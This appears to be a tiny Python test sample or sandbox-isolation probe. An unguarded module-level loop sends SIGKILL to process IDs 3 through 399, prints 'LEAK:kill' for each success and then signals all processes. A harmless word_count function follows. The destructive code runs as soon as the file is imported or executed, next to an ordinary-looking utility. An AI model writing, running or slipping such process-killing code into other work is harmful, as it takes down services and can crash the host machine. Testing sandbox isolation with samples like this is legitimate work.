# Signals to every process that can be named.
import os, signal
for pid in range(3, 400):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            print('LEAK:kill', pid)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGCONT)
except OSError:
    pass

def word_count(text):
    return len(text.split())
